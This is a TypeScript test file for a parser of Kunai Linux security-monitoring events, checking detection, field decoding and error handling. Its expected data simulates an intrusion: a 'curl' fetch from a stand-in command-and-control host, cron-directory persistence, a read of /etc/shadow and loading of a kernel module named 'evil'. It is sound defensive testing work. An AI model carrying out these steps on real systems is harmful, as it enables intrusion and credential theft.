import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { contentOf, decodeContent, placesOf } from '../../../../tests/support/decode-content.ts';
import { parseIsoMicros } from '../../../base/time.ts';
import { source } from './index.ts';

const sample = readFileSync(new URL('testdata/events.json', import.meta.url));

describe('kunai, detect', () => {
  it('knows events, spread over lines too', () => {
    expect(source.detect('x', sample)).toBe('certain');
    const [first = ''] = sample.toString('utf8').split('\n');
    expect(source.detect('x', Buffer.from(JSON.stringify(JSON.parse(first), null, 2)))).toBe('certain');
  });

  it.each(['', '{}', '{"info":{"event":{"source":"other"}}}', 'kunai says "event":{"source":"kunai"'])(
    'does not know %j',
    (content) => {
      expect(source.detect('kunai.log', Buffer.from(content))).toBeUndefined();
    },
  );
});

describe('kunai, decode', () => {
  it('reads a program with its parent and hash', async () => {
    const { events, problems } = await decodeContent(source, sample);
    expect(problems).toEqual([]);
    expect(contentOf(events[0])).toEqual({
      kind: 'process',
      time: parseIsoMicros('2026-03-01T10:00:00.123456Z'),
      event_dataset: 'kunai.execve',
      host_name: 'node1',
      evidence_id: 0,
      evidence_at: 1,
      event_action: 'exec',
      process_pid: 4711,
      process_name: 'curl',
      process_executable: '/usr/bin/curl',
      process_command_line: 'curl -s http://c2.example/a',
      process_hash_sha256: 'ab'.repeat(32),
      process_parent_pid: 4700,
      process_parent_name: 'bash',
      process_parent_executable: '/usr/bin/bash',
      user_id: 1000,
      user_name: 'anna',
      fields: {
        data: {
          ancestors: '/usr/lib/systemd/systemd|/usr/bin/bash',
          exe: { md5: '00'.repeat(16), size: 9 },
        },
        info: {
          host: { uuid: '5ba1' },
          event: { source: 'kunai', id: 1, uuid: 'e0', batch: 1 },
          task: {
            pid: 4712,
            guuid: 'g1',
            gid: 1000,
            group: 'anna',
            namespaces: { mnt: 4026531841 },
            flags: '0x400000',
          },
          parent_task: { pid: 4700, guuid: 'g2', uid: 1000, user: 'anna' },
        },
      },
    });
  });

  it('reads every type as its kind', async () => {
    const { events } = await decodeContent(source, sample);
    expect(events.slice(1)).toMatchObject([
      { kind: 'process', container_name: 'web' },
      {
        kind: 'socket',
        event_action: 'connect',
        event_outcome: 'success',
        source_port: 44_312,
        destination_ip: '198.51.100.7',
        destination_port: 80,
        network_transport: 'tcp',
        socket_family: 'inet',
        network_community_id: '1:abc=',
      },
      {
        kind: 'dns',
        dns_question_name: 'c2.example',
        dns_answers: ['198.51.100.7', '2001:db8::7'],
        dns_resolved_ip: ['198.51.100.7', '2001:db8::7'],
        destination_ip: '10.0.0.1',
        network_transport: 'udp',
      },
      { kind: 'file_access', event_action: 'rename', file_path: '/tmp/a', file_target_path: '/etc/cron.d/a' },
      { kind: 'file_access', event_action: 'read', file_path: '/etc/shadow' },
      { kind: 'process', event_action: 'kill', target_pid: 12, target_name: 'sshd' },
      { kind: 'kernel_module', event_action: 'load', event_outcome: 'success', module_name: 'evil' },
      {
        kind: 'alert',
        rule_id: 'mimic.kthread',
        rule_severity: 'high',
        threat_technique_id: ['T1036'],
        process_executable: '/tmp/kworker',
      },
      { kind: 'log', log_name: 'bpf_prog_load' },
    ]);
  });

  it('reports what is no event, and reads on', async () => {
    const { events, problems } = await decodeContent(
      source,
      '{"info":{}}\n{"info":{"event":{"name":7}},"data":3}\n{"info":{"event":{"name":"connect"},"utc_time":"x"},"data":{"dst":{"ip":"?"}}}\n',
    );
    expect(events.map(({ kind, time }) => [kind, time])).toEqual([
      ['log', 0],
      ['socket', 0],
    ]);
    expect(placesOf(problems)).toEqual([
      ['bad-record', 1],
      ['bad-record', 2],
      ['bad-value', 3],
      ['bad-value', 3],
    ]);
  });
});
